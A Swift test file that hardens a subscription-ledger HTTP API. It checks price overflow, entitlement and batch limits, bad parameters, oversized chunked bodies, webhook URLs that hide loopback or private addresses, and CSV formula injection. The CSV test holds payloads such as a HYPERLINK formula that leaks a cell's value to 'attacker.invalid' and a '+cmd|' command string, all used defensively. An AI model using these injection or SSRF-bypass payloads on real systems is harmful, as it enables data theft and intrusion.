import Foundation
import Hummingbird
import HummingbirdTesting
import LedgerCore
import LedgerServer
import NIOCore
import Testing

/// Issue 13 through the HTTP API on a real PostgreSQL: each case answers its documented status.
@Suite("Hardening through the API")
struct HardeningAPITests {
    static func purchase(_ subscriber: String, key: String, price: String, entitlements: [String] = ["pro"]) -> JSONValue {
        var e = eventJSON(subscriber: subscriber, key: key)
        var d = e["data"]!.objectValue!
        d["price_minor"] = .number(JSONNumber(jsonText: Substring(price))!)
        d["entitlements"] = .array(entitlements.map(JSONValue.string))
        e["data"] = .object(d)
        return .object(e)
    }

    @Test("price_minor of 2^63 − 1 is 422 naming the field and stores nothing; 10^15 purchases report exactly")
    func moneyCeilingAndReports() async throws {
        try await APIHarness.run { http, api in
            let big = try await http.execute(
                uri: "/v1/events", method: .post, headers: api.headers(.writer),
                body: body(Self.purchase("rich", key: "r0", price: "9223372036854775807")))
            #expect(big.status == .unprocessableContent)
            #expect(big.errorField == "data.price_minor")
            let stored = try await http.execute(uri: "/v1/subscribers/rich/events", method: .get, headers: api.headers(.auditor))
            #expect(try stored.events.isEmpty)

            for i in 0..<20 {
                let r = try await http.execute(
                    uri: "/v1/events", method: .post, headers: api.headers(.writer),
                    body: body(Self.purchase("rich-\(i)", key: "r\(i)", price: "1000000000000000")))
                #expect(r.status == .created)
            }
            let revenue = try await http.execute(
                uri: "/v1/reports/revenue?from=2026-01-01&to=2026-06-01", method: .get, headers: api.headers(.analyst))
            #expect(revenue.status == .ok)
            let billed = try revenue.json.objectValue?["periods"]?.arrayValue?.compactMap { $0.objectValue?["billings"]?.numberValue?.canonical }
            #expect(billed?.contains("20000000000000000") == true)  // 20 × 10^15: past what a report of Int64 cents held safely
            let mrr = try await http.execute(uri: "/v1/reports/mrr?at=2026-03-15T00:00:00Z", method: .get, headers: api.headers(.analyst))
            #expect(mrr.status == .ok)
            let csv = try await http.execute(
                uri: "/v1/reports/revenue?from=2026-01-01&to=2026-06-01&format=csv", method: .get, headers: api.headers(.analyst))
            #expect(csv.status == .ok)

            let catalog = try await http.execute(
                uri: "/v1/catalog/products/big", method: .put, headers: api.headers(.admin),
                body: body(
                    #"{"entitlements": ["pro"], "kind": "auto_renewable", "period": "P1M", "price_minor": 9223372036854775807, "currency": "USD"}"#))
            #expect(catalog.status == .unprocessableContent)
            #expect(catalog.errorField == "price_minor")
        }
    }

    @Test("65 entitlements are refused, and 8,193 in one request; a subscriber's 1,536 windows come in pages of at most 1,000")
    func entitlementLimitAndWindowPages() async throws {
        try await APIHarness.run { http, api in
            let many = (0..<65).map { "e\($0)" }
            let refused = try await http.execute(
                uri: "/v1/events", method: .post, headers: api.headers(.writer),
                body: body(Self.purchase("wide", key: "w", price: "1", entitlements: many)))
            #expect(refused.status == .unprocessableContent)
            #expect(refused.errorField == "data.entitlements")
            let events: [JSONValue] = (0..<24).map { Self.purchase("wide", key: "w\($0)", price: "1", entitlements: Array(many.prefix(64))) }
            let batch = try await http.execute(
                uri: "/v1/events", method: .post, headers: api.headers(.writer), body: body(.object(["events": .array(events)])))
            #expect(batch.status == .created)
            let first = try await http.execute(uri: "/v1/subscribers/wide/windows", method: .get, headers: api.headers(.reader))
            #expect(first.status == .ok)
            #expect(try first.json.objectValue?["windows"]?.arrayValue?.count == 1000)
            #expect(try first.json.objectValue?["next_after"] == 1000)
            let second = try await http.execute(uri: "/v1/subscribers/wide/windows?after=1000", method: .get, headers: api.headers(.reader))
            #expect(try second.json.objectValue?["windows"]?.arrayValue?.count == 536)
            #expect(try second.json.objectValue?["next_after"] == nil)
            let small = try await http.execute(uri: "/v1/subscribers/wide/windows?limit=10&after=5", method: .get, headers: api.headers(.reader))
            #expect(try small.json.objectValue?["next_after"] == 15)
            let entitlements = try await http.execute(
                uri: "/v1/subscribers/wide/entitlements?at=2026-03-15T00:00:00Z", method: .get, headers: api.headers(.reader))
            #expect(try entitlements.json.objectValue?["entitlements"]?.arrayValue?.count == 64)

            // A request names at most 8,192 entitlements together: 129 × 64 is refused whole, nothing stored.
            let wide: [JSONValue] = (0..<129).map { Self.purchase("huge", key: "h\($0)", price: "1", entitlements: Array(many.prefix(64))) }
            let tooWide = try await http.execute(
                uri: "/v1/events", method: .post, headers: api.headers(.writer), body: body(.object(["events": .array(wide)])))
            #expect(tooWide.status == .unprocessableContent)
            #expect(tooWide.errorField == "events")
            let none = try await http.execute(uri: "/v1/subscribers/huge/events", method: .get, headers: api.headers(.auditor))
            #expect(try none.events.isEmpty)

            // 128 × 64 windows, then 29 × 64 more: 10,048, past the per-subscriber limit; the second request is
            // refused whole and stores nothing.
            let first128 = Array(wide.prefix(128))
            let accepted = try await http.execute(
                uri: "/v1/events", method: .post, headers: api.headers(.writer), body: body(.object(["events": .array(first128)])))
            #expect(accepted.status == .created)
            let more: [JSONValue] = (0..<29).map { Self.purchase("huge", key: "m\($0)", price: "1", entitlements: Array(many.prefix(64))) }
            let over = try await http.execute(
                uri: "/v1/events", method: .post, headers: api.headers(.writer), body: body(.object(["events": .array(more)])))
            #expect(over.status == .unprocessableContent)
            #expect(over.errorField == "subscriber_id")
            let stored = try await http.execute(
                uri: "/v1/subscribers/huge/events?limit=1000", method: .get, headers: api.headers(.auditor))
            #expect(try stored.events.count == 128)
        }
    }

    @Test("a NUL byte or a decomposed id in a parameter is 400 naming it, never 500")
    func parameters() async throws {
        try await APIHarness.run { http, api in
            for uri in [
                "/v1/reports/mrr?at=2026-03-15T00:00:00Z&entitlement=a%00b", "/v1/reports/churn?from=2026-01-01&to=2026-06-01&entitlement=a%00b",
                "/v1/reports/revenue?from=2026-01-01&to=2026-06-01&entitlement=a%00b",
            ] {
                let r = try await http.execute(uri: uri, method: .get, headers: api.headers(.admin))
                #expect(r.status == .badRequest, "\(uri)")
                #expect(String(buffer: r.body).contains("entitlement"), "\(uri)")
            }
            let product = try await http.execute(uri: "/v1/catalog/products/a%00b", method: .get, headers: api.headers(.admin))
            #expect(product.status == .badRequest)
            #expect(String(buffer: product.body).contains("product_id"))
            let nfd = try await http.execute(
                uri: "/v1/catalog/products/cafe%CC%81", method: .put, headers: api.headers(.admin), body: body(EntitlementsAPITests.product))
            #expect(nfd.status == .badRequest)
        }
    }

    @Test("webhook URLs whose host is a non-public address in any spelling are 422 naming url, at registration and in a PATCH")
    func webhookDestinations() async throws {
        try await APIHarness.run { http, api in
            let refused = [
                "https://[::ffff:0:127.0.0.1]/", "https://[64:ff9b:1::7f00:1]/", "https://[2002:7f00:1::1]/", "https://[100::1]/",
                "https://[2001::1]/", "https://0000000000000177.0.0.1/", "https://[::ffff:10.0.0.1]/", "https://[64:ff9b::a9fe:a9fe]/",
                "https://0x7f000001/", "https://127.1/", "https://[example.com]/",
            ]
            for url in refused {
                let r = try await http.execute(
                    uri: "/v1/webhooks", method: .post, headers: api.headers(.admin), body: body(["url": .string(url)]))
                #expect(r.status == .unprocessableContent, "\(url)")
                #expect(r.errorField == "url", "\(url)")
            }
            let created = try await http.execute(
                uri: "/v1/webhooks", method: .post, headers: api.headers(.admin), body: body(["url": "https://hooks.example.com/in"]))
            #expect(created.status == .created)
            let id = try #require(try created.json.objectValue?["id"]?.stringValue)
            for url in refused {
                let r = try await http.execute(
                    uri: "/v1/webhooks/\(id)", method: .patch, headers: api.headers(.admin), body: body(["url": .string(url)]))
                #expect(r.status == .unprocessableContent, "\(url)")
                #expect(r.errorField == "url", "\(url)")
            }
            let kept = try await http.execute(uri: "/v1/webhooks/\(id)", method: .get, headers: api.headers(.admin))
            #expect(try kept.json.objectValue?["url"] == "https://hooks.example.com/in")
        }
    }

    @Test("a body over the limit without Content-Length is 413, not 500")
    func chunkedOverLimit() async throws {
        try await APIHarness.run(maxBodyBytes: 1024) { http, api in
            var headers = api.headers(.admin)
            headers[.contentLength] = nil
            headers[.transferEncoding] = "chunked"
            let big = ByteBuffer(repeating: UInt8(ascii: " "), count: 4096)
            for (method, uri) in [
                (HTTPRequest.Method.post, "/v1/events"), (.put, "/v1/catalog/products/x"), (.post, "/v1/stores/apple/notifications"),
                (.post, "/v1/stores/apple/receipts"),
            ] {
                let r = try await http.execute(uri: uri, method: method, headers: headers, body: big)
                #expect(r.status == .contentTooLarge, "\(uri)")
                #expect(r.errorCode == "payload_too_large", "\(uri)")
            }
        }
    }

    @Test("CSV exports neutralise formulas; JSON keeps them verbatim")
    func csvFormulas() async throws {
        try await APIHarness.run { http, api in
            let formulas = [#"=HYPERLINK("http://attacker.invalid/?x="&A1,"click")"#, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1-1", "\tx", "\rx"]
            for (i, f) in formulas.enumerated() {
                let credit: JSONValue = [
                    "subscriber_id": "csv", "type": "credit", "occurred_at": "2026-03-01T10:00:00Z", "source": "support",
                    "environment": "production", "idempotency_key": .string(i < 4 ? f : "c\(i)"),
                    "data": ["entitlement": "pro", "duration": "P7D", "reason": .string(f), "granted_by": "agent"],
                    "metadata": ["note": .string(f)],
                ]
                #expect(
                    try await http.execute(uri: "/v1/events", method: .post, headers: api.headers(.writer), body: body(credit)).status == .created)
            }
            let csv = String(buffer: try await http.execute(uri: "/v1/exports/events.csv", method: .get, headers: api.headers(.auditor)).body)
            // The keys are cells of their own (data and metadata are JSON objects, cells starting with `{`).
            #expect(csv.contains(#","'=HYPERLINK("#) && csv.contains(",'+cmd") && csv.contains(",'@SUM") && csv.contains(",'-1-1"))
            #expect(!csv.contains(",=HYPERLINK") && !csv.contains(#","=HYPERLINK"#))
            #expect(!csv.contains(",+cmd") && !csv.contains(",@SUM") && !csv.contains(",-1-1"))
            let json = try await http.execute(uri: "/v1/subscribers/csv/events", method: .get, headers: api.headers(.auditor))
            #expect(try json.events.first?["data"]?.objectValue?["reason"]?.stringValue == formulas[0])
        }
    }
}
